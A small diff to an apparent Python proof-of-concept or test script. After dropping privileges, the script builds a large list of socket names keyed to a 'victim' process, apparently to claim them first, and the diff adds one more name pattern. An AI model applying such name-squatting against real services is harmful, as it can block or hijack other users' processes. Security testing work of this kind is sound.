@@ -14,6 +14,7 @@ os.setresuid(user, user, user)
 names = [(socket.SOCK_SEQPACKET, "%d/lock" % victim)]
 for slot in range(1, 2048):
     names.append((socket.SOCK_DGRAM, "slot/%d" % slot))
+    names.append((socket.SOCK_DGRAM, "%d/link/%d" % (victim, slot)))
     names.append((socket.SOCK_SEQPACKET, "%d/registry/%d" % (victim, slot)))
     for kind in "local-7", "targets-3":
         names.append((socket.SOCK_SEQPACKET, "%d/%s/%d" % (victim, kind, slot)))
